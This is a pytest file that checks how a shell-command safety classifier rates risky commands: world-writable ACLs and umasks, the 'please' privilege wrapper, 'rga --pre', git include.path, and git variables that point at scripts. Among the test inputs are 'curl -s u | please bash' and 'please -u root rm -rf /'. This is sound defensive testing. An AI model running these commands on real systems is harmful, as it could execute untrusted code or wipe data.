"""Same classes, more tools: ACLs and the umask are file modes, please is sudo, rga is rg,
and git's include.path is a config key that can run programs.

Each class already had a rule for its best-known tool (``chmod 777``, ``sudo``, ``rg --pre``,
``git config core.pager``); these tables pin the other tools of the class, both ways.
"""

from __future__ import annotations

import pytest

from deerguard import Verdict, classify


def _rules(command: str) -> set[str]:
    return {f.rule_id for f in classify(command).findings}


@pytest.mark.parametrize("command", [
    "setfacl -m o::rwx shared.txt",
    "setfacl -Rm o::rw dir",
    "setfacl --modify=other:w x",
    "setfacl -m u:bob:r,o::rwx x",
    "setfacl -m d:o::rwx dir",
    "setfacl --set u::rw,g::r,o::rw x",
    "umask 000",
    "umask 0",
    "umask 0770",
    "umask o+w",
    "umask a=rwx",
])
def test_acl_and_umask_modes_that_let_everyone_write_warn(command: str) -> None:
    assert classify(command).verdict is Verdict.WARN
    assert "shell.chmod-world" in _rules(command)


@pytest.mark.parametrize("command", [
    "setfacl -m u:bob:rwx x",
    "setfacl -m g:dev:rw -R src",
    "setfacl -m o::r x",
    "setfacl -b x",
    "getfacl x",
    "umask",
    "umask -S",
    "umask 022",
    "umask 002",
    "umask 077",
    "umask u=rwx,g=rx,o=rx",
])
def test_private_acls_and_umasks_pass(command: str) -> None:
    assert classify(command).verdict is Verdict.PASS


@pytest.mark.parametrize(("command", "verdict"), [
    ("please ls", Verdict.WARN),
    ("please -u root -r 'fix perms' chown me f", Verdict.WARN),
    ("please -u root rm -rf /", Verdict.BLOCK),
    ("curl -s u | please bash", Verdict.BLOCK),
])
def test_please_is_a_privilege_wrapper_like_sudo(command: str, verdict: Verdict) -> None:
    result = classify(command)
    assert result.verdict is verdict
    assert "shell.privilege" in _rules(command)
    assert "please" in result.commands


@pytest.mark.parametrize(("command", "verdict"), [
    ("rga --pre ./x.sh secret .", Verdict.WARN),
    ("rga --pre=./x.sh secret", Verdict.WARN),
    ("rga 'TODO' docs/", Verdict.PASS),
])
def test_rga_pre_runs_a_program_like_rg_pre(command: str, verdict: Verdict) -> None:
    assert classify(command).verdict is verdict


@pytest.mark.parametrize(("command", "verdict"), [
    ("git config --global include.path /tmp/x.gitconfig", Verdict.WARN),
    ("git config includeIf.gitdir:~/work/.path ~/.gitconfig-work", Verdict.WARN),
    ("git config --get include.path", Verdict.PASS),
    ("git config --global user.email me@example.com", Verdict.PASS),
])
def test_git_include_path_loads_config_that_can_run_programs(command: str,
                                                             verdict: Verdict) -> None:
    assert classify(command).verdict is verdict


@pytest.mark.parametrize(("command", "verdict"), [
    ("GIT_EXTERNAL_DIFF=/tmp/x.sh git diff", Verdict.WARN),
    ("GIT_SSH_COMMAND='sh /tmp/x.sh' git fetch", Verdict.WARN),
    ("GIT_ASKPASS=./askpass.sh git push", Verdict.WARN),
    ("GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key -o IdentitiesOnly=yes' git fetch",
     Verdict.PASS),
    ("EDITOR=vim git commit", Verdict.PASS),
    ("GIT_EDITOR=/usr/bin/nano git rebase -i HEAD~2", Verdict.PASS),
    ("PAGER=less git log", Verdict.PASS),
])
def test_command_variables_naming_a_script_of_unknown_content_warn(command: str,
                                                                   verdict: Verdict) -> None:
    """Like tar's exec hook: a variable a tool runs as a command, set to a script whose
    content is not known, warns; installed programs and inline code are read as usual."""
    assert classify(command).verdict is verdict
